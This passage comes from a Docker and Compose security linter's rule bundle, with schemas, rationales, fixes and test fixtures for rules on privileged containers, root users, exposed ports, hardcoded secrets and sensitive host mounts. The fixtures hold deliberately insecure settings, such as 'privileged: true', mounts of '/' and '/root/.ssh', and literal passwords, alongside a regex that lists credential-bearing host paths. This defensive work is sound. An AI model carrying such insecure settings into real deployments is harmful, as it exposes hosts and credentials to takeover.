\\"1.0\\"\\n          pids: 200\\n```\\n\\n`mem_limit: 512m`, `cpus: 1.0` and `pids_limit: 200` at the service level are equivalent.","references":[{"framework":"cis-docker","id":"1.6.0:5.11"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    mem_limit: 256m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-memory-limit.yaml"},{"id":"container-no-new-privileges","pack":"docker","title":"Container may gain privileges through setuid binaries (no-new-privileges not set)","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"security_opt":{"not":{"items":{"not":{"pattern":{"$param":"enabled"}}}}}}},"message":"{{name}} does not set `no-new-privileges`, so a setuid or setgid program inside it can still raise a process\'s privileges. Add `security_opt: [\\"no-new-privileges:true\\"]`.","rationale":"The kernel\'s `no_new_privs` bit, which Docker sets with `no-new-privileges`, makes `execve` unable to grant more privileges than the caller had: setuid and setgid binaries and file capabilities stop working as an escalation path from an application user to root inside the container. It costs nothing for almost every service. The CIS Docker Benchmark and the OWASP cheat sheet recommend it for every container; this rule asks it of Compose services, the long-running ones.","remediation":"Add the option to the service (or to a shared `x-` block merged into every service):\\n\\n```yaml\\nx-hardening: &hardening\\n  security_opt:\\n    - no-new-privileges:true\\nservices:\\n  app:\\n    <<: *hardening\\n    image: ghcr.io/example/app:1.4.2\\n```\\n\\nThe Docker daemon can also apply it to every container with `\\"no-new-privileges\\": true` in\\n`daemon.json`, but the Compose file is where a reviewer can see it.","references":[{"framework":"cis-docker","id":"1.6.0:5.26"},{"framework":"owasp-docker","id":"RULE #4"}],"params":{"enabled":"^no-new-privileges=(1|t|T|true|TRUE|True)$"},"paramSchemas":{"enabled":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `security_opt` entry that turns no-new-privileges on. Docker reads the value with Go\'s strconv.ParseBool; a bare `no-new-privileges` is normalized to `no-new-privileges=true` by the container subject."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt:\\n      - apparmor=docker-default\\n      - no-new-privileges:false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":17}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  security_opt: [no-new-privileges:true]\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    security_opt:\\n      - no-new-privileges\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt: [\\"no-new-privileges=true\\", \\"seccomp=./seccomp.json\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --health-cmd pg_isready\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-new-privileges.yaml"},{"id":"container-no-pids-limit","pack":"docker","title":"Compose service has no process (PIDs) limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["pids_limit"],"properties":{"pids_limit":{"type":"integer","minimum":1}}},"message":"{{name}} has no limit on the number of processes, so a fork bomb or a runaway worker pool in it can exhaust the host\'s process table. Set `pids_limit:` (or `deploy.resources.limits.pids`), e.g. `pids_limit: 200`.","rationale":"Process IDs are a host-wide resource. Without a limit, one container can create processes until the kernel refuses to start any more anywhere on the host, including the daemon\'s own. The CIS Docker Benchmark (5.29) asks that the PIDs cgroup limit be used. Informational by default.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.29"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pids_limit"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    pids_limit: -1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          pids: 100\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-pids-limit.yaml"},{"id":"container-port-all-interfaces","pack":"docker","title":"Published port listens on every host interface","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"required":["host_ip"],"properties":{"host_ip":{"not":{"enum":{"$param":"anyAddress"}}}}}}}},"message":"{{name}} publishes a port on every interface of the host, so it is reachable from the network, and Docker\'s own firewall rules let it past host firewalls such as ufw. Bind it to the address that should reach it, e.g. `\\"127.0.0.1:8080:80\\"`.","rationale":"A published port without a host address is bound to `0.0.0.0` and `::`. Docker inserts its NAT rules ahead of the host firewall\'s own, so a database or admin interface meant for local use becomes reachable from the whole network, and from the internet on a server with a public address, even when `ufw` or `firewalld` says the port is closed. The CIS Docker Benchmark asks that container ports be bound to a specific host interface; the OWASP cheat sheet warns about the firewall bypass.","remediation":"Bind the port to the loopback address (or to the one interface that should serve it), and put a\\nreverse proxy in front of services that must be public:\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"127.0.0.1:5432:5432\\"\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - target: 8080\\n        published: \\"8080\\"\\n        host_ip: 127.0.0.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.14"},{"framework":"owasp-docker","id":"RULE #5a"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"anyAddress":["0.0.0.0","::","[::]"]},"paramSchemas":{"anyAddress":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Host addresses that mean \\"every interface\\"; an absent host_ip means the same."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"5432:5432\\"\\n      - 127.0.0.1:5433:5432\\n      - \\"0.0.0.0:6432:6432\\"\\n      - \\"[::]:7432:7432/tcp\\"\\n      - \\"9187\\"\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":20},{"line":7,"column":9},{"line":8,"column":9},{"line":9,"column":9}]},{"file":"compose.yaml","content":"x-ports: &ports\\n  ports:\\n    - target: 3000\\n      published: \\"3000\\"\\nservices:\\n  grafana:\\n    <<: *ports\\n    image: grafana/grafana:11.2.0\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n      - \\"[::1]:8080:8080\\"\\n      - target: 9090\\n        published: \\"9090\\"\\n        host_ip: 10.0.0.5\\n    expose: [\\"9100\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        ports:\\n          - 5432:5432\\n        options: -p 6432:6432\\n    steps:\\n      - run: docker run -d -p 8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-port-all-interfaces.yaml"},{"id":"container-privileged-port","pack":"docker","title":"Compose service publishes a privileged host port (below 1024)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"properties":{"published":{"not":{"pattern":{"$param":"privilegedPort"}}}}}}}},"message":"{{name}} publishes host port {{value}}, one of the privileged ports below 1024 that the host normally reserves for its own system services. Publish a port above 1024 (e.g. `\\"8080:80\\"`) and put a reverse proxy or load balancer on the low port if one is needed.","rationale":"Ports below 1024 are privileged on Linux: only root may bind them, and clients trust that what answers there is a service the administrator started (SSH on 22, DNS on 53, HTTP on 80). Docker publishes them for any container regardless, so a container can take over a well-known port on the host. The CIS Docker Benchmark (5.8) asks that privileged ports not be mapped into containers. Informational by default: a reverse proxy on 80 and 443 is the usual, deliberate exception.","remediation":"Publish a high port and keep the low one for a reverse proxy you have chosen to expose:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.8"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"privilegedPort":"^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)"},"paramSchemas":{"privilegedPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A published host port, or the start of a range, below 1024."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"80:80\\"\\n      - \\"127.0.0.1:8443:443\\"\\n      - target: 53\\n        published: \\"53\\"\\n        protocol: udp\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":16},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n      - \\"8443:443\\"\\n      - \\"9000-9010:9000-9010\\"\\n      - \\"3000\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        ports:\\n          - 80:80\\n    steps:\\n      - run: docker run -d -p 443:443 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-privileged-port.yaml"},{"id":"container-privileged","pack":"docker","title":"Container runs privileged","severity":"critical","subject":"container","schema":{"properties":{"privileged":{"not":{"const":true}}}},"message":"{{name}} runs privileged: it gets every Linux capability and every host device, so whoever controls it controls the host. Remove `privileged: true` and add only the capabilities it needs with `cap_add`.","rationale":"A privileged container runs with all capabilities, with access to all host devices, and without the seccomp, AppArmor and SELinux confinement Docker applies by default. Anything that escapes into it (a vulnerable dependency, a malicious image, a pull request\'s code) can mount the host\'s disks, load kernel modules and take over the machine and every container on it.","remediation":"Remove the privileged flag and grant the one capability the workload actually needs, after\\ndropping the rest:\\n\\n```yaml\\nservices:\\n  app:\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE]\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, drop `--privileged` and use `--cap-drop ALL --cap-add \u2026`.","references":[{"framework":"cis-docker","id":"1.6.0:5.5"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":21}]},{"file":"compose.yaml","content":"x-common: &common\\n  privileged: \\"true\\"\\nservices:\\n  web:\\n    <<: *common\\n    image: nginx:1.27\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: false\\n    cap_add: [NET_BIND_SERVICE]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --privileged --health-cmd pg_isready\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo building\\n          docker run --rm \\\\\\n            --privileged alpine:3.20 true\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-privileged.yaml"},{"id":"container-restart-policy","pack":"docker","title":"Restart policy retries without a bound","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"restart":{"pattern":{"$param":"boundedRestart"}}}},"message":"{{name}} uses `restart: {{value}}`, which restarts it forever, so a crash loop (or an attacker who can crash it on demand) keeps the host busy restarting it without anyone noticing. Use `restart: on-failure:5` and alert on the failure instead.","rationale":"An unbounded restart policy hides a failing service behind endless restarts: each one costs CPU and I/O, may replay a harmful start-up step, and keeps a service that should have been looked at running in a broken state. The CIS Docker Benchmark (5.15) asks for the `on-failure` policy with a maximum of five retries. Informational by default, since `unless-stopped` is a common and deliberate choice for services that must survive reboots.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.15"},{"framework":"url","url":"https://docs.docker.com/engine/containers/start-containers-automatically/"}],"params":{"boundedRestart":"^(no|false|on-failure:[1-5])$"},"paramSchemas":{"boundedRestart":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`no` (YAML 1.1 reads an unquoted `no` as false), or on-failure with at most five retries."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: always\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    restart: unless-stopped\\n  jobs:\\n    image: ghcr.io/example/jobs:1.4.2\\n    restart: on-failure\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":20},{"line":7,"column":5},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n  migrate:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: \\"no\\"\\n  web:\\n    image: nginx:1.27\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d --restart always nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-restart-policy.yaml"},{"id":"container-root-filesystem-writable","pack":"docker","title":"Container\'s root filesystem is writable","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["read_only"],"properties":{"read_only":{"const":true}}},"message":"{{name}} can write to its own root filesystem, so an attacker who gets in can drop tools, alter binaries or plant persistence in it. Set `read_only: true` and give the paths the service must write to a `tmpfs` or a volume.","rationale":"An immutable root filesystem turns many attacks from \\"download and run a tool\\" into nothing: the application\'s code and libraries cannot be replaced, and writable places are few, named and easy to review. It also makes the container\'s behaviour reproducible, since no state builds up in its writable layer. The CIS Docker Benchmark and the OWASP cheat sheet ask for a read-only root filesystem, with `tmpfs` mounts or volumes for the paths that must be writable. Informational by default, since most images need some work to run read-only.","remediation":"Make the root filesystem read-only and mount writable space only where the service writes:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    read_only: true\\n    tmpfs:\\n      - /var/cache/nginx\\n      - /var/run\\n    volumes:\\n      - uploads:/srv/uploads\\nvolumes:\\n  uploads: {}\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.13"},{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#read_only"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  read_only: true\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n    tmpfs: [/var/cache/nginx, /var/run]\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: \\"true\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-root-filesystem-writable.yaml"},{"id":"container-runs-as-root","pack":"docker","title":"Compose service runs as root","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}},"if":{"required":["build"]},"then":{"required":["user"]}},"message":"{{name}} runs as root, so a flaw in it gives the attacker root inside the container, one kernel bug away from root on the host. Set `user:` to an unprivileged UID (e.g. `user: \\"10001:10001\\"`) or add a `USER` to the Dockerfile it is built from.","rationale":"Root inside a container is the same UID 0 as on the host unless user namespaces are remapped: it owns every file the container can see, including bind-mounted host paths, and it is what every container-escape exploit starts from. A service that needs no privileges should not have them. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. For a service built from a Dockerfile in this repository, the Dockerfile\'s final `USER` counts, and the finding points at both files.","remediation":"Run the service as an unprivileged user, in the Compose file or (better) in the Dockerfile so\\nthat every way of running the image gets it:\\n\\n```yaml\\nservices:\\n  api:\\n    build: ./api\\n    user: \\"10001:10001\\"\\n```\\n\\n```dockerfile\\nRUN useradd --system --uid 10001 --no-log-init app\\nUSER 10001\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A user spec that means root: the name or UID, with or without a group."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n  admin:\\n    image: ghcr.io/example/admin:2.0.1\\n    user: root\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    user: \\"0:0\\"\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":15},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build:\\n      context: ./api\\n    user: \\"10001:10001\\"\\n  web:\\n    image: nginx:1.27-alpine\\n    user: nginx\\n  cache:\\n    image: redis:7.4\\n    user: ${REDIS_UID:-999}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --user root\\n    steps:\\n      - run: docker run --rm -u 0 alpine:3.20 id\\n","expect":[]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n","files":{"api/Dockerfile":"FROM node:22-slim\\nUSER node\\n"},"expect":[]}],"source":"policies/docker/container-runs-as-root.yaml"},{"id":"container-secret-in-environment","pack":"docker","title":"Secret written as a literal environment value","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the file, so the secret is in the repository\'s history and visible to everyone who can read it, and to `docker inspect`. Pass it in instead: a Compose `secrets:` entry read from a file, or `${{{key}}}` from an untracked `.env` file.","rationale":"Anything written in a Compose file or a workflow script is stored in version control forever, copied into forks and CI logs, and readable by everyone with access to the repository. Values in `environment` are also shown by `docker inspect` and inherited by every child process. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be kept out of images and configuration files and handed over through a secrets mechanism; Compose `secrets:` mounts them as files under `/run/secrets/`. Names are matched like BuildKit\'s SecretsUsedInArgOrEnv check. A Compose value interpolated from a `.env` file committed beside the Compose file, or from a `${VAR:-default}`, is written in the repository too and counts as a literal; a variable left to the deployment\'s environment does not.","remediation":"Keep the value out of the file. With Compose secrets (most images accept a `_FILE` variant):\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./secrets/db_password.txt   # not committed\\n```\\n\\nOr interpolate it from the environment or an untracked `.env` file:\\n`POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`. In a workflow, use\\n`-e TOKEN=\\"${{ secrets.TOKEN }}\\"` or pass the name only (`-e TOKEN`).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/use-secrets/"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: a `${VAR}` / `$VAR` interpolation or a `${{ }}` expression. Everything else (except the empty string) counts as a literal."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_USER: app\\n      POSTGRES_PASSWORD: s3cr3t-pa55\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    environment:\\n      - JWT_SECRET=change-me-please\\n      - API_KEY\\n      - STRIPE_PUBLIC_KEY=pk_live_123\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":37},{"line":11,"column":9}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n      AUTH_URL: https://id.example.com\\n      MONKEY: banana\\n      GITHUB_TOKEN:\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./db_password.txt\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d -e ADMIN_PASSWORD=hunter2 ghcr.io/example/app:1.4.2\\n          docker run -d -e API_TOKEN=\\"${{ secrets.API_TOKEN }}\\" -e DB_PASSWORD ghcr.io/example/app:1.4.2\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d -e \\"SESSION_SECRET=$SESSION_SECRET\\" ghcr.io/example/app:1.4.2\\n","expect":[]}],"source":"policies/docker/container-secret-in-environment.yaml"},{"id":"container-sensitive-host-mount","pack":"docker","title":"Sensitive host directory mounted into a container","severity":"high","subject":"container","schema":{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":{"$param":"sensitivePaths"},"not":{"pattern":{"$param":"dockerSocket"}}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":{"$param":"readOnlyAllowed"}}}}}}}}},"message":"{{name}} bind-mounts the host path `{{value.source}}`, which holds the host\'s system configuration, binaries, devices or credentials; a compromised container could read secrets from it or, when it is writable, take over the host. Mount only the specific files the service needs, read-only, or use a named volume.","rationale":"A bind mount hands the container the host\'s own files. System directories such as `/`, `/etc`, `/usr`, `/boot`, `/dev`, `/proc` and `/sys` let a process change the host\'s configuration, replace binaries that the host runs as root, reach devices or kernel settings, and read password hashes and keys; `/var/lib/docker` and `/run` hold every other container\'s data and the container runtime\'s sockets; `/root` and home directories hold SSH keys and cloud credentials. Read-only mode reduces the damage but still discloses secrets. The CIS Docker Benchmark asks that sensitive host directories not be mounted, especially read-write. `/etc/localtime` and `/etc/timezone` mounted read-only are allowed.","remediation":"Mount only the file or folder the service needs, read-only, from a path that belongs to the\\napplication, or use a named volume:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx/nginx.conf:/etc/nginx/nginx.conf:ro   # not /etc:/etc\\n      - certs:/etc/nginx/certs:ro\\nvolumes:\\n  certs: {}\\n```\\n\\nMonitoring agents that really need `/proc` or `/sys` from the host should run on a dedicated\\nhost, with the mount read-only, and with a suppression that says why.","references":[{"framework":"cis-docker","id":"1.6.0:5.6"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/"}],"params":{"sensitivePaths":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","dockerSocket":"^(/var)?/run/docker\\\\.sock/?$","readOnlyAllowed":"^/etc/(localtime|timezone)$"},"paramSchemas":{"sensitivePaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is a system directory or lies below one. Each directory matches itself and its subpaths only, so `/etc/nginx` matches and `/etcd-data` does not. A whole home (`~`, `/home`, `/home/<user>`) matches, but not a project folder inside one."},"dockerSocket":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The Docker socket, left out here: it has its own, critical rule (container-docker-socket)."},"readOnlyAllowed":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Host files that are harmless to share read-only."}},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: restic/restic:0.17.1\\n    volumes:\\n      - /etc:/host/etc:ro\\n      - /etcd-data:/data\\n      - ./config:/config\\n      - /var/run/docker.sock:/var/run/docker.sock\\n      - /etc/localtime:/etc/localtime:ro\\n      - /:/rootfs\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":26},{"line":10,"column":9}]},{"file":"compose.yaml","content":"services:\\n  exporter:\\n    image: gcr.io/cadvisor/cadvisor:v0.49.1\\n    volumes:\\n      - type: bind\\n        source: /sys/fs/cgroup\\n        target: /sys/fs/cgroup\\n        read_only: true\\n      - type: volume\\n        source: data\\n        target: /data\\n      - type: bind\\n        source: /var/lib/docker/\\n        target: /var/lib/docker\\nvolumes:\\n  data: {}\\n","expect":[{"line":5,"column":9},{"line":12,"column":9}]},{"file":"compose.yaml","content":"x-host: &host\\n  volumes:\\n    - /root/.ssh:/root/.ssh\\nservices:\\n  deploy:\\n    <<: *host\\n    image: alpine/git:2.45.2\\n  dev:\\n    image: node:22\\n    volumes:\\n      - /home/alice/projects/site:/app\\n      - ~/.npmrc:/root/.npmrc:ro\\n      - /etc/localtime:/etc/localtime\\n","expect":[{"line":3,"column":7},{"line":13,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\\n      - /srv/www:/usr/share/nginx/html:ro\\n      - /etcd-data:/data\\n      - /run/docker.sock:/var/run/docker.sock\\n      - /etc/timezone:/etc/timezone:ro\\n      - logs:/var/log/nginx\\nvolumes:\\n  logs: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: aquasec/trivy:0.56.2\\n      volumes:\\n        - /tmp/cache:/root/.cache\\n        - /:/host:ro\\n    services:\\n      agent:\\n        image: datadog/agent:7.57.0\\n        options: -v /proc/:/host/proc/:ro --mount type=bind,source=/sys/fs/cgroup,target=/host/sys/fs/cgroup\\n    steps:\\n      - run: trivy rootfs /host\\n","expect":[{"line":9,"column":11},{"line":13,"column":9},{"line":13,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm -v \\"$PWD:/src\\" -v /etc/passwd:/etc/passwd:ro alpine:3.20 true\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n      options: -v ${{ github.workspace }}:/src\\n    steps:\\n      - run: docker run --rm -v /srv/data:/data -v /run/docker.sock:/var/run/docker.sock alpine:3.20 